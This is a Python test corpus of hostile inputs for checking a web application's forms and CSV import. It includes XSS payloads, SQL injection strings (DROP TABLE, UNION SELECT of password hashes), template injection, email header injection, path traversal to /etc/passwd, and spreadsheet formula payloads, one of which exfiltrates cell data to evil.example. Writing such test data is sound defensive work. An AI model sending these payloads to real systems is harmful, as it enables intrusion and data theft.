"""A corpus of hostile inputs, sent through every form field, the staff CSV import and scenario files.

Each entry has a name (the test id), the text a person (or a script) could send, and:
- `markup`: a piece that must never appear unescaped in any page (it would be live HTML);
- `wire`: the bytes to send when the text cannot be encoded as UTF-8 (a lone surrogate, Latin-1);
- `refused`: True when every form must refuse it (control characters), "one-line" when only
  one-line fields must (line breaks and tabs are ordinary in a textarea).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    name: str
    value: str
    markup: str | None = None
    wire: bytes | None = None
    refused: bool | str = False

    @property
    def encoded(self) -> bytes:
        return self.wire if self.wire is not None else self.value.encode("utf-8")


MEGABYTE = 1024 * 1024

CORPUS: tuple[Hostile, ...] = (
    # Script and event-handler injection
    Hostile("script-tag", "<script>alert(1)</script>", markup="<script>alert(1)</script>"),
    Hostile("img-onerror", '"><img src=x onerror=alert(1)>', markup="<img src=x onerror=alert(1)>"),
    Hostile("svg-onload", "<svg/onload=alert(document.domain)>", markup="<svg/onload="),
    Hostile("attribute-break", "' autofocus onfocus='alert(1)", markup="' autofocus onfocus='"),
    Hostile("closing-textarea", "</textarea><script>alert(1)</script>", markup="</textarea><script>"),
    Hostile("javascript-url", "javascript:alert(document.cookie)", markup='href="javascript:'),
    Hostile("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", markup='href="data:'),
    Hostile("entity-text", "&lt;b&gt;bold&lt;/b&gt; &amp; &#60;i&#62;", markup="&lt;b&gt;bold&lt;/b&gt; &amp;"),
    Hostile("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    # SQL fragments
    Hostile("sql-or", "' OR 1=1 --"),
    Hostile("sql-drop", "'; DROP TABLE people; --"),
    Hostile("sql-union", "x\" UNION SELECT email, password_hash FROM people --"),
    # Template injection (Jinja, JS templates, ERB)
    Hostile("template", "{{7*7}} {% raw %}${7*7} #{7*7} <%= 7*7 %>", markup="<%= 7*7 %>"),
    # Control characters
    Hostile("nul-byte", "before\x00after", refused=True),
    Hostile("c0-controls", "bell\x07 backspace\x08 escape\x1b[31mred\x1b[0m", refused=True),
    Hostile("vertical-tab-form-feed", "a\x0bb\x0cc", refused=True),
    Hostile("del-and-c1", "del\x7f next-line\x85 csi\x9b", refused=True),
    Hostile("windows-newlines", "line one\r\nline two\r\n", refused="one-line"),
    Hostile("tab", "name\twith a tab", refused="one-line"),
    Hostile("percent-00", "%00 and %0d%0a are just text"),
    # Odd Unicode
    Hostile("rtl-override", "invoice\u202egpj.exe", refused=True),
    Hostile("zero-width", "ad\u200bmin \u200c\u200d \ufeff👩\u200d💻"),
    Hostile("combining-marks", "Z\u0351\u0364\u036b\u0350a\u0337\u0322l\u0336g\u0335o\u0489 e\u0301"),
    Hostile("astral-plane", "😀🏫 𝕳𝖊𝖑𝖑𝖔 𠜎 \U0001F1EC\U0001F1E7"),
    Hostile("noncharacters", "end\uffff\ufffe"),
    Hostile("lone-surrogate", "half\ufffdpair", wire=b"half\xed\xa0\x80pair"),
    Hostile("latin-1-bytes", "caf\ufffd", wire=b"caf\xe9"),
    Hostile("homoglyph-email", "st\u0430ff@ex\u0430mple.org"),  # Cyrillic а
    Hostile("email-header-injection", "staff@example.org\r\nBcc: victim@example.org", refused="one-line"),
    Hostile("whitespace-only", " \u00a0\u2003\u3000 "),
    # Length
    Hostile("long-10k", "A" * 10_000),
    Hostile("long-1mb", "B" * MEGABYTE),
    # Formula injection when exported to a spreadsheet, and a path
    Hostile("csv-formula", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    Hostile("csv-dde", "+cmd|' /C calc'!A0"),
    Hostile("path-traversal", "../../../etc/passwd"),
)

BY_NAME = {h.name: h for h in CORPUS}
assert len(BY_NAME) == len(CORPUS), "corpus names must be unique"
